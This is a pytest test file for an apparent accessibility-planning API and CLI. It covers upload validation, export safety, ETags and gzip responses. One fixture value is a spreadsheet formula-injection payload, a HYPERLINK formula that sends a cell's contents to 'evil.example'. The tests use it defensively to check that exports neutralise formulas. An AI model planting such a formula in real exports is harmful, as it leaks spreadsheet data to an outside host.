"""What requests and results contain: everything checkable without running a job is refused at
submission; exports are safe to open in a spreadsheet; result files carry ETags (304 when
current); every table comes in one workbook as from the CLI."""

from __future__ import annotations

import io
import json

import numpy as np
import openpyxl
import pandas as pd
import pytest
from api_support import HELSINKI_POINT, built_data_dir, client, wait_job
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.outputs import FORMULA_START, neutralise_formula, neutralise_formulas, write_tables

#: Central Taiyuan (lon, lat): far from the sample network.
TAIYUAN = [112.55, 37.87]
#: A facility name a spreadsheet would run as a live link (the classic formula injection).
INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def net_dir(tmp_path_factory):
    d = tmp_path_factory.mktemp("content")
    return d, built_data_dir(d)


@pytest.fixture()
def c(net_dir):
    with client(net_dir[0]) as c:
        yield c


def _upload(c, name: str, data: bytes) -> str:
    r = c.post("/v1/uploads", files={"file": (name, data)})
    assert r.status_code == 201, r.text
    return r.json()["id"]


def _refused(r, status: int, *words: str) -> str:
    assert r.status_code == status, r.text
    detail = r.json()["detail"]
    for word in words:
        assert word in detail, detail
    assert "/tmp" not in detail and "uploads/" not in detail  # no server paths
    return detail


def _raw(c, body: str):
    """POST a scenario body as text (NaN and Infinity are not JSON, so json= cannot send them)."""
    return c.post("/v1/scenarios", content=body.encode(),
                  headers={"content-type": "application/json"})


def _geotiff(crs: str | None = "EPSG:4326", at: list[float] = HELSINKI_POINT) -> bytes:
    """A small population raster around ``at`` (lon, lat; 10 people a cell)."""
    from rasterio.io import MemoryFile
    from rasterio.transform import from_origin

    lon, lat = at
    with MemoryFile() as mem:
        with mem.open(driver="GTiff", width=4, height=4, count=1, dtype="float32", crs=crs,
                      transform=from_origin(lon - 0.002, lat + 0.002, 0.001, 0.001)) as ds:
            ds.write(np.full((1, 4, 4), 10, dtype="float32"))
        return mem.read()


def _polygons(at: list[float] = HELSINKI_POINT, **props) -> bytes:
    """A rectangle of about 700 × 650 m around ``at`` (lon, lat) with ``props``."""
    lon, lat = at
    ring = [[lon - 0.005, lat - 0.003], [lon + 0.005, lat - 0.003], [lon + 0.005, lat + 0.003],
            [lon - 0.005, lat + 0.003], [lon - 0.005, lat - 0.003]]
    return json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"name": "Kluuvi", **props},
         "geometry": {"type": "Polygon", "coordinates": [ring]}}]}).encode()


# --- validation at submission ---------------------------------------------------------------------


def test_population_files_are_checked_by_content(c, net_dir):
    nid = net_dir[1]

    def population(upload_id: str, **extra):
        return c.post("/v1/scenarios", json={"network_id": nid, "population": {
            "source": "upload", "upload_id": upload_id, **extra}})

    _refused(population(_upload(c, "worldpop.tif", b"this is no raster")), 400, "not a GeoTIFF")
    _refused(population(_upload(c, "cut.tif", b"II*\x00fake")), 400, "cannot be read")
    _refused(population(_upload(c, "nocrs.tif", _geotiff(None))), 400, "coordinate system")
    assert population(_upload(c, "good.tif", _geotiff())).status_code == 201
    _refused(population(_upload(c, "taiyuan.tif", _geotiff(at=TAIYUAN))), 400, "taiyuan.tif",
             "lon 112.5", "network's area")
    _refused(population(_upload(c, "taiyuan.geojson", _polygons(TAIYUAN, pop=1))), 400,
             "taiyuan.geojson", "network's area")
    _refused(population(_upload(c, "census.gpkg", b"junk " * 100)), 400, "census.gpkg",
             "GIS layer")
    _refused(population(_upload(c, "census.geojson", b"{not json")), 400, "GIS layer")
    counts = _upload(c, "census.geojson", _polygons(常住人口=1200))
    assert population(counts).status_code == 201
    _refused(population(counts, population_column="pop2020"), 400, "pop2020", "常住人口")
    nameless = _upload(c, "areas.geojson", _polygons(code=7))
    _refused(population(nameless), 400, "population_column", "code")


def test_districts_age_regions_and_numbers_are_checked(c, net_dir):
    nid = net_dir[1]

    def pop(**fields):
        return c.post("/v1/scenarios", json={"network_id": nid, "population": fields})

    _refused(pop(districts=_upload(c, "jiedao.gpkg", b"SQLite format 3\x00" + b"\x00" * 200)),
             400, "jiedao.gpkg")
    no_count = _upload(c, "jiedao.geojson", _polygons())
    _refused(pop(districts=no_count), 400, "districts_column")
    _refused(pop(districts=no_count, districts_column="人口"), 400, "人口")
    good = _upload(c, "jiedao.geojson", _polygons(population=900))
    assert pop(districts=good).status_code == 201
    _refused(pop(districts=_upload(c, "jiedao.geojson", _polygons(TAIYUAN, population=9))),
             400, "network's area")
    r = c.post("/v1/scenarios", json={"network_id": nid, "bbox": [112.5, 37.8, 112.6, 37.9]})
    _refused(r, 400, "bbox", "inside the network's area")
    _refused(pop(age_shares="mars"), 422, "mars", "shanxi", "'none'")
    r = pop(age_shares="none")
    assert r.status_code == 201, r.text
    # Infinity and NaN are refused wherever a number goes; levels are sensible minutes
    _refused(_raw(c, f'{{"network_id": "{nid}", "analysis": {{"max_access_m": Infinity}}}}'),
             422, "max_access_m", "finite")
    _refused(_raw(c, f'{{"network_id": "{nid}", "speeds": {{"age_60_plus": NaN}}}}'),
             422, "age_60_plus", "finite")
    _refused(_raw(c, f'{{"network_id": "{nid}", "population": {{"total": -Infinity}}}}'),
             422, "total")
    lon, lat = HELSINKI_POINT
    _refused(_raw(c, f'{{"network_id": "{nid}", "facilities": [{{"source": "geojson", '
                     f'"category": "kindergarten", "geojson": {{"type": "FeatureCollection", '
                     f'"features": [{{"type": "Feature", "properties": {{"capacity": NaN}}, '
                     f'"geometry": {{"type": "Point", "coordinates": [{lon}, {lat}]}}}}]}}}}]}}'),
             422, "capacity")
    for levels, word in (([-5, 0, 100000], "1 to 60"), ([5, 5], "twice"), ([], "at least 1")):
        _refused(c.post("/v1/scenarios", json={"network_id": nid,
                                               "analysis": {"levels_min": levels}}), 422, word)
    _refused(c.post("/v1/scenarios", json={"network_id": nid,
                                           "analysis": {"max_access_m": 1e9}}), 422,
             "max_access_m")
    r = c.post("/v1/scenarios", json={"network_id": nid, "analysis": {"levels_min": [5, 20]}})
    assert r.status_code == 201, r.text


@pytest.mark.parametrize(("source", "fields"), [
    ("osm", {"coords": "EPSG:4547"}), ("osm", {"encoding": "gbk"}),
    ("osm", {"lon": "x", "lat": "y"}), ("osm", {"capacity_column": "cap"}),
    ("osm", {"status": "candidate"}), ("geojson", {"encoding": "gbk"})])
def test_fields_a_source_would_ignore_are_refused(c, net_dir, source, fields):
    fac = {"source": source, **fields}
    if source == "geojson":
        fac |= {"category": "kindergarten", "geojson": {"type": "FeatureCollection", "features": [
            {"type": "Feature", "geometry": {"type": "Point", "coordinates": HELSINKI_POINT}}]}}
    r = c.post("/v1/scenarios", json={"network_id": net_dir[1], "facilities": [fac]})
    _refused(r, 422, *fields, "do not apply")


def test_large_inline_point_lists_are_refused_before_validation(c, net_dir):
    from planner.api.models import MAX_INLINE_FEATURES

    lon, lat = HELSINKI_POINT
    point = {"type": "Feature", "properties": {}, "geometry": {"type": "Point",
                                                               "coordinates": [lon, lat]}}
    half = {"source": "geojson", "category": "kindergarten", "geojson": {
        "type": "FeatureCollection", "features": [point] * (MAX_INLINE_FEATURES // 2 + 1)}}
    r = c.post("/v1/scenarios", json={"network_id": net_dir[1], "facilities": [half, half]})
    _refused(r, 422, str(MAX_INLINE_FEATURES + 2), "/v1/uploads")


def test_facility_uploads_are_checked_without_server_paths(c, net_dir):
    nid = net_dir[1]
    lon, lat = HELSINKI_POINT
    csv = _upload(c, "k.csv", f"name,lon,lat\na,{lon},{lat}\n".encode())

    def fac(upload_id: str = csv, **fields):
        return c.post("/v1/scenarios", json={"network_id": nid, "facilities": [
            {"source": "upload", "upload_id": upload_id, "category": "kindergarten",
             "coords": "wgs84", **fields}]})

    _refused(fac(coords="EPSG:99999"), 422, "EPSG:99999", "no coordinate system")
    _refused(fac(encoding="klingon"), 400, "klingon")
    _refused(fac(lon="x", lat="y"), 400, "'x'", "'lon'")
    _refused(fac(capacity_column="places"), 400, "places")
    _refused(fac(lon="x"), 400, "(lon and lat)")
    _refused(fac(_upload(c, "pois.gpkg", b"junk " * 100)), 400, "pois.gpkg")
    assert fac().status_code == 201


def test_capacitated_siting_without_any_capacity_is_refused(c, net_dir):
    sid = c.post("/v1/scenarios", json={"network_id": net_dir[1]}).json()["id"]
    r = c.post(f"/v1/scenarios/{sid}/optimize", json={
        "model": "capacitated", "categories": ["convenience"], "new_sites": 2})
    _refused(r, 400, "new_site_capacity", "convenience")
    r = c.post(f"/v1/scenarios/{sid}/optimize", json={
        "model": "capacitated", "categories": ["convenience"], "new_sites": 2,
        "new_site_capacity": 500})
    assert r.status_code == 202, r.text
    c.delete(f"/v1/jobs/{r.json()['id']}")


# --- safe exports ----------------------------------------------------------------------------------


@given(st.text(max_size=30))
@settings(max_examples=300, deadline=None)
def test_no_text_cell_starts_a_formula(text):
    safe = neutralise_formula(text)
    assert not str(safe).startswith(FORMULA_START)
    assert safe == text or safe == "'" + text  # nothing else changes


def test_cli_tables_and_workbook_are_neutralised(tmp_path):
    frame = pd.DataFrame({"name": [INJECTED, "+86 351 1234", "-", "@SUM(A1)", "\tx", "幼儿园"],
                          "people": [1.0, -2.0, 3.0, 4.0, 5.0, 6.0]})
    write_tables({"facility_audit": frame}, tmp_path)
    csv = pd.read_csv(tmp_path / "facility_audit.csv", encoding="utf-8-sig",
                      keep_default_na=False)
    assert csv["name"].tolist()[:5] == ["'" + v for v in frame["name"][:5]]
    assert csv["name"].iloc[5] == "幼儿园" and csv["people"].tolist() == frame["people"].tolist()
    sheet = openpyxl.load_workbook(tmp_path / "coverage.xlsx")["设施核查"]  # the facility audit
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)  # text, never a formula ("f")
    assert cells[0].value == "'" + INJECTED
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == frame["people"].tolist()
    assert neutralise_formulas(frame)["people"].dtype == frame["people"].dtype


def test_cli_facility_audit_is_neutralised(tmp_path):
    from typer.testing import CliRunner

    from planner.cli import app

    lon, lat = HELSINKI_POINT
    src = tmp_path / "pois.csv"
    pd.DataFrame({"name": [INJECTED, "-cmd"], "lon": [lon, lon], "lat": [lat, 200.0]}).to_csv(
        src, index=False)
    audit, dropped = tmp_path / "audit.csv", tmp_path / "dropped.csv"
    result = CliRunner().invoke(app, ["facilities", str(src), "--crs", "wgs84", "--category",
                                      "kindergarten", "-o", str(tmp_path / "f.gpkg"),
                                      "--audit", str(audit), "--dropped", str(dropped)])
    assert result.exit_code == 0, result.output
    rows = pd.read_csv(audit, encoding="utf-8-sig").to_numpy().tolist()
    cells = [v for row in rows for v in row if isinstance(v, str)]
    assert "'" + INJECTED in cells and "'-cmd" in cells
    assert not any(v.startswith(FORMULA_START) for v in cells)
    drops = pd.read_csv(dropped, encoding="utf-8-sig").to_numpy().tolist()
    assert not any(isinstance(v, str) and v.startswith(FORMULA_START) for r in drops for v in r)


# --- a finished job: neutralised tables, the workbook, ETags ----------------------------------------


@pytest.fixture(scope="module")
def job(net_dir):
    with client(net_dir[0]) as c:
        fc = {"type": "FeatureCollection", "features": [
            {"type": "Feature", "properties": {"name": INJECTED},
             "geometry": {"type": "Point", "coordinates": HELSINKI_POINT}}]}
        r = c.post("/v1/scenarios", json={
            "network_id": net_dir[1],
            "facilities": [{"source": "geojson", "category": "kindergarten", "geojson": fc}],
            "population": {"source": "buildings", "cell_m": 200},
            "analysis": {"categories": ["kindergarten"], "mode": "compliance"}})
        assert r.status_code == 201, r.text
        job = wait_job(c, c.post(f"/v1/scenarios/{r.json()['id']}/coverage").json()["id"],
                       timeout_s=120)
        assert job["status"] == "done", job
        return c.get(job["result_url"]).json()


@pytest.mark.slow
def test_result_tables_are_neutralised(c, job):
    audit = next(t for t in job["tables"] if t["name"] == "facility_audit")
    csv = pd.read_csv(io.BytesIO(c.get(audit["csv"]).content), encoding="utf-8-sig")
    assert "'" + INJECTED in csv.to_numpy().tolist()[0]
    book = openpyxl.load_workbook(io.BytesIO(c.get(audit["xlsx"]).content))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    assert "'" + INJECTED in [cell.value for cell in cells]


@pytest.mark.slow
def test_the_workbook_holds_every_table(c, job):
    r = c.get(job["workbook_url"])
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    assert len(book.sheetnames) == len(job["tables"]) + 2  # and the contents and the notes
    assert {"概要", "目录", "覆盖率明细", "设施核查"} <= set(book.sheetnames)
    assert book.sheetnames[-1] == "说明"
    values = [c.value for ws in book for row in ws.iter_rows() for c in row]
    assert "'" + INJECTED in values and INJECTED not in values


@pytest.mark.slow
def test_the_cli_layers_are_served_too(c, job, tmp_path):
    """The GeoPackage and GeoParquet layers a job writes (as planner run does) are listed in the
    result and served; they hold the GeoJSON layers' features."""
    import geopandas as gpd
    import pyogrio

    r = c.get(job["geopackage_url"])
    assert job["geopackage_url"].endswith("/layers/layers.gpkg") and r.status_code == 200
    (tmp_path / "layers.gpkg").write_bytes(r.content)
    in_gpkg = dict(pyogrio.list_layers(tmp_path / "layers.gpkg"))
    for layer in job["layers"]:
        assert layer["name"] in in_gpkg
        parquet = c.get(layer["parquet_url"])
        assert parquet.status_code == 200, parquet.text
        (tmp_path / "l.parquet").write_bytes(parquet.content)
        assert len(gpd.read_parquet(tmp_path / "l.parquet")) == layer["features"]
    assert c.get(job["layers"][0]["url"].replace(".geojson", "_x.parquet")).status_code == 404


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["layer", "csv", "xlsx", "workbook", "map"])
def test_result_files_carry_an_etag(c, job, kind):
    url = {"layer": job["layers"][0]["url"], "csv": job["tables"][0]["csv"],
           "xlsx": job["tables"][0]["xlsx"], "workbook": job["workbook_url"],
           "map": job["map_url"]}[kind]
    first = c.get(url)
    assert first.status_code == 200 and first.content
    etag = first.headers["etag"]
    again = c.get(url, headers={"If-None-Match": etag})
    assert again.status_code == 304 and not again.content
    assert again.headers["etag"] == etag
    assert c.get(url, headers={"If-None-Match": f'"other", W/{etag}'}).status_code == 304
    changed = c.get(url, headers={"If-None-Match": '"something-else"'})
    assert changed.status_code == 200 and changed.content == first.content


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["layer", "csv", "map"])
def test_text_files_are_sent_gzipped_to_clients_that_accept_it(c, job, kind):
    largest = max(job["layers"], key=lambda x: x["features"])
    url = {"layer": largest["url"], "csv": job["tables"][0]["csv"], "map": job["map_url"]}[kind]
    plain = c.get(url, headers={"Accept-Encoding": "identity"})
    assert plain.status_code == 200 and "content-encoding" not in plain.headers
    packed = c.get(url, headers={"Accept-Encoding": "br;q=1.0, gzip;q=0.8"})
    assert packed.headers["content-encoding"] == "gzip"
    assert packed.content == plain.content  # the client decodes it
    assert packed.headers["vary"] == plain.headers["vary"] == "Accept-Encoding"
    assert int(packed.headers["content-length"]) < len(plain.content)
    assert packed.headers["etag"] != plain.headers["etag"]
    refused = c.get(url, headers={"Accept-Encoding": "gzip;q=0"})
    assert "content-encoding" not in refused.headers
    again = c.get(url, headers={"Accept-Encoding": "gzip",
                                "If-None-Match": packed.headers["etag"]})
    assert again.status_code == 304


@pytest.mark.parametrize(("header", "gzip"), [
    ("gzip", True), ("GZIP, deflate", True), ("br;q=1.0, gzip;q=0.8", True), ("*", True),
    ("*;q=0, gzip", True), ("gzip;q=0", False), ("gzip;q=x", False), ("identity", False),
    (None, False)])
def test_accept_encoding(header, gzip):
    from planner.api.routes.results import _accepts_gzip

    assert _accepts_gzip(header) is gzip


@pytest.mark.slow
def test_tiny_files_are_sent_as_they_are(c, job):
    empty = min(job["layers"], key=lambda x: x["features"])
    r = c.get(empty["url"], headers={"Accept-Encoding": "gzip"})
    assert r.status_code == 200 and "content-encoding" not in r.headers


@pytest.mark.slow
def test_a_result_file_gone_from_disk_is_404(c, job, net_dir):
    job_dir = net_dir[0] / "jobs" / job["job_id"]
    target = job_dir / "tables" / "coverage.xlsx"
    target.rename(job_dir / "workbook.moved")
    try:
        _refused(c.get(job["workbook_url"]), 404, "run the job again")
    finally:
        (job_dir / "workbook.moved").rename(target)


def test_misspelt_fields_and_bad_json_are_explained(tmp_path):
    """A misspelt field gets a "did you mean", a bad coordinate system the choices, broken
    JSON where it breaks; uploads can be listed to find the ones to delete."""
    from api_support import client

    with client(tmp_path) as c:
        r = c.post("/v1/scenarios", json={"network_id": "a" * 32,
                                          "analysis": {"catgories": ["kindergarten"]}})
        assert r.status_code == 422
        assert "unknown field 'catgories' — did you mean 'categories'?" in r.json()["detail"]
        # the suggestion comes from the model at that place of the body
        for body, where, hint in [
            ({"analysis": {"categorys": ["kindergarten"]}}, "analysis.categorys", "categories"),
            ({"districs": {"upload_id": "b" * 32}}, "districs", "districts"),
            ({"districts": {"upload_id": "b" * 32, "name_colum": "名称"}},
             "districts.name_colum", "name_column"),
            ({"facilities": [{"source": "osm", "coord": "wgs84"}]}, "facilities.0.coord",
             "coords"),
        ]:
            detail = c.post("/v1/scenarios", json={"network_id": "a" * 32, **body}).json()[
                "detail"]
            assert f"{where}: unknown field '{where.rsplit('.', 1)[-1]}' — did you mean " \
                   f"'{hint}'?" in detail, detail
        r = c.post(f"/v1/scenarios/{'a' * 32}/optimize", json={"categorys": ["kindergarten"]})
        assert "did you mean 'categories'?" in r.json()["detail"]
        r = c.post("/v1/scenarios", content=b'{"network_id": ',
                   headers={"content-type": "application/json"})
        assert "not valid JSON (at character 15" in r.json()["detail"]
        up = c.post("/v1/uploads", files={"file": ("a.csv", b"lon,lat\n24.94,60.17\n")}).json()
        assert [u["id"] for u in c.get("/v1/uploads").json()] == [up["id"]]
